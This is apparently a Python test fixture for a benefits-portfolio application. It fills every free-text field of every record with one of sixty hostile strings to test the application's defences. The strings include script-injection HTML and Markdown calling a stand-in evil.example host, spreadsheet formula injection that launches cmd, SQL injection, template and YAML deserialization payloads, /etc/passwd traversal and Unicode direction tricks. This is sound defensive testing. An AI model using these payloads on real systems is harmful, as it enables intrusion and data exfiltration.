"""Texts that try to be more than text, and the example portfolio with one in every text field of every record.

Whatever the texts name to be fetched is at an address of the test's own; `run_by_text` is a function that the test's
page has. A word such as `w12q` stands by itself in a page only where markup around it was taken for markup.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import date
from decimal import Decimal
from itertools import count

from benefits.actions.importing import shipped_organisations
from benefits.errors import Severity
from benefits.interchange.read import read_folder
from benefits.periods import FinancialYear
from benefits.records.categories import (
    BiasMeasure,
    Calculator,
    ConditionStatus,
    LogKind,
    OrganisationKind,
    PoolRule,
    Reliability,
    Role,
    ScenarioStatus,
    Side,
)
from benefits.records.checks import check
from benefits.records.choices import choices
from benefits.records.model import (
    REFERENCES,
    BiasFactor,
    Condition,
    ConfidenceGrade,
    Dependency,
    LogEntry,
    Organisation,
    Person,
    Pool,
    Record,
    Scenario,
    ValuationInput,
    table_of,
)
from benefits.reference.dictionary import FieldType, fields
from benefits.reference.sources import example_folder

CODE, OTHER = "RTI", "VERIFY"
OUTSIDE = "http://evil.example"
# Fields of a form of their own, which `check` holds to it.
FORMED = frozenset({("person", "email"), ("person", "grants"), ("person", "subject"), ("override", "text")})
_TEXTS = {FieldType.TEXT, FieldType.LONG_TEXT, FieldType.LIST}


@dataclass(frozen=True)
class Hostile:
    """The records, and how many fields hold each of the texts."""

    records: tuple[Record, ...]
    held: Counter[str]
    fields: frozenset[tuple[str, str]]


def texts(beacon: str) -> tuple[str, ...]:
    """Sixty texts; `beacon` is the address that must never be asked."""
    return (
        # HTML
        f"<script>run_by_text(1)</script><script src={beacon}/1 data-hostile></script>",
        f"<img data-hostile src={beacon}/2 onerror=run_by_text(2)>",
        "<svg data-hostile onload=run_by_text(3)><circle r=9 /></svg>",
        f"<iframe data-hostile src={beacon}/4></iframe><object data-hostile data={beacon}/4b></object>",
        f"<form data-hostile action={beacon}/5><input type=password data-hostile><button>Sign in</button></form>",
        "<div data-hostile style='position:fixed;inset:0;z-index:99999;background:red'>Sign in again</div>",
        f"<link data-hostile rel=stylesheet href={beacon}/7><style data-hostile>@import '{beacon}/7b';</style>",
        f"<meta data-hostile http-equiv=refresh content='0;url={beacon}/8'><base data-hostile href={beacon}/>",
        "<details data-hostile open ontoggle=run_by_text(9)><summary>w09q</summary></details>",
        "\"'><img data-hostile src=x onerror=run_by_text(10)>",
        "</textarea></title></script><svg data-hostile onload=run_by_text(11)>",
        "<b>w12q</b> <i data-hostile>w12q</i> <u>w12q</u> <sup>w12q</sup>",
        "<a data-hostile href='javascript:run_by_text(13)'>w13q</a>",
        "&lt;img data-hostile src=x onerror=run_by_text(14)&gt; &amp; &#60;b&#62;w14q&#60;/b&#62;",
        f"<video data-hostile src={beacon}/15 autoplay><source data-hostile onerror=run_by_text(15)></video>",
        # Markdown
        f"![x]({beacon}/16.png)",
        f"![x][there]\n\n[there]: {OUTSIDE}/17.png",
        f"[w18q]({OUTSIDE}/18)",
        f"<{OUTSIDE}/19> and {OUTSIDE}/19b and www.evil.example and a@evil.example",
        "[w20q](javascript:run_by_text(20)) [w20q](data:text/html,<script>run_by_text(20)</script>)",
        "**w21q** *w21q* __w21q__ _w21q_ ***w21q***",
        "~~w22q~~ ~w22q~ ==w22q== ^w22q^",
        "# w23q\n## w23q\n\nw23q\n====",
        "| w24q | w24q |\n|---|---|\n| w24q | w24q |",
        "```python\nw25q\n```\n\n    x w25q\n\n\tx w25q\n`w25q`",
        "> w26q\n\n- w26q\n* w26q\n1. w26q\n- [ ] w26q\n\n---",
        "text[^27]\n\n[^27]: w27q",
        "$w_{28}$ $$\\int_0^1 w28q$$ \\(w28q\\) \\[w28q\\]",
        ":red[w29q] :blue-background[w29q] :rainbow[w29q] :small[w29q] :red-badge[w29q]",
        ":material/bomb: :material_bomb: :bomb: :streamlit: :shortcut[w30q]",
        f"![x](<{beacon}/31 31>) ![x]({beacon}/31 'w31q') [![x]({beacon}/31b)]({OUTSIDE}/31)",
        f"]({OUTSIDE}/32) ![ ]( {beacon}/32 ) [x]: {beacon}/32",
        "\\*w33q\\* \\\\**w33q**\\\\ \\<b>w33q\\</b>",
        # Pictures of plotly and Vega
        f"<a href='{OUTSIDE}/34' target=_blank>w34q</a><br><span style='color:red'>w34q</span>",
        "%{customdata} %{x} %{y:.2f}<extra>w35q</extra>",
        "datum.w36 && run_by_text(36) #{36}",
        # Spreadsheets
        f'=HYPERLINK("{beacon}/37","w37q")',
        f'=WEBSERVICE("{beacon}/38")&IMPORTXML("{beacon}/38","//a")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "\t=1+1",
        "\r=1+1\r\n=1+1",
        "'=1+1",
        # Other languages
        "'; DROP TABLE project; -- \" OR 1=1 /* */",
        "${run_by_text(46)} {{7*7}} {0} {title} #{1} <%= 1 %> %s %d %n %(x)s",
        "!!python/object:os.system {a: *b, c: &d} --- !x",
        "../../etc/passwd C:\\Windows\\ file:///etc/passwd",
        "None", "null NULL nil undefined NaN", "true", "-0", "1e309", "０１２ 12,3 £1m", "2026-04-01",
        # Letters
        "a\u202egnp.txt\u202c \u2066x\u2069 \u061c\u200f",
        "z\u200be\u200cr\u200do\ufeff\u00ad\u2028w\u2029x",
        "😀👩‍👩‍👧‍👦🏴‍☠️ e\u0301" + "o\u0300\u0301\u0302\u0303" * 20,
        "W" * 300,
        ("ten thousand letters <b>&amp;</b> *_`~ " * 300)[:10_000],
    )  # fmt: skip


def register(beacon: str, turn: int = 0) -> Hostile:
    """The example portfolio and what it lacks, every text field of every record one of the texts.

    Args:
        beacon: The address that the texts name.
        turn: By how many texts to turn the wheel: in as many turns as there are texts each field holds each of them.
    """
    chosen = texts(beacon)
    wheel, held, places = count(turn), Counter(), set()
    made = []
    for one in (*shipped_organisations(), *_example(), *_beside()):
        table = table_of(one)
        for name in _free_texts(one):
            text = chosen[next(wheel) % len(chosen)]
            given = (text.replace(";", ",").strip(),) if isinstance(getattr(one, name), tuple) else text
            one = replace(one, **{name: given})
            held[text] += 1
            places.add((table, name))
        wrong = [str(problem) for problem in check(one) if problem.severity is Severity.ERROR]
        assert not wrong, wrong
        made.append(one)
    return Hostile(tuple(made), held, frozenset(places))


def _example() -> Iterator[Record]:
    """The example portfolio, one project of it restricted and two benefits drawing on pools."""
    for one in read_folder(example_folder()).records:
        if one.id == "NLEDS":
            yield replace(one, readers=("HO",))
        elif one.id in ("RTI-B1", "RTI-B2"):
            yield replace(one, pool="POOL0")
        else:
            yield one


def _free_texts(record: Record) -> Iterator[str]:
    """The fields of a record in which people may write what they like."""
    table = table_of(record)
    for one in fields(table):
        is_free = one.type in _TEXTS and not choices(one) and one.name not in REFERENCES[table]
        if is_free and (table, one.name) not in FORMED and not _must_be_blank(record, one.name):
            yield one.name


def _must_be_blank(record: Record, name: str) -> bool:
    is_open = isinstance(record, Scenario) and record.status is not ScenarioStatus.APPROVED
    return is_open and name in {"approved_by", "fingerprint"}


def _beside() -> Iterator[Record]:
    """Records of the tables of which the example has none."""
    day = date(2026, 4, 1)
    yield Organisation("EVIL", "x", "x", OrganisationKind.AGENCY, parent="HMRC")
    yield Person("eve", "eve@evil.example", "x", (f"{Role.LEADER}:HMRC",), f"{OUTSIDE}|eve")
    for number, rule in enumerate(PoolRule):
        yield Pool(f"POOL{number}", "x", total=Decimal(10**9), price_year=FinancialYear(2016), rule=rule)
    for number, name in enumerate(("people", "minutes", "days")):
        yield ValuationInput(f"RTI-B3-I{number}", "RTI-B3", Calculator.STAFF_TIME, name, Decimal(5))
    yield Dependency("D1", CODE, OTHER, Decimal("0.5"))
    yield Dependency("D2", OTHER, "TUO")
    for step in ("clear-plan", "leadership", "funding", "data-quality"):
        yield Condition(f"{CODE}-{step}", CODE, step, ConditionStatus.PARTLY, "DWP", reviewed_on=day)
    for kind in LogKind:
        yield LogEntry(
            f"{CODE}-{kind}", CODE, kind, "x", effect=Decimal(10**6), reliability=Reliability.LOW, made_on=day
        )
    yield BiasFactor(
        f"{CODE}-F", CODE, BiasMeasure.CAPITAL, "equipment_development", "government_guidelines", Decimal("0.2")
    )
    yield Scenario("SETTLED", "x", "HMT", FinancialYear(2011), status=ScenarioStatus.APPROVED, approved_on=day)
    for side in Side:
        yield ConfidenceGrade(f"{side}-1", side, 1, "x", Decimal("0.1"))
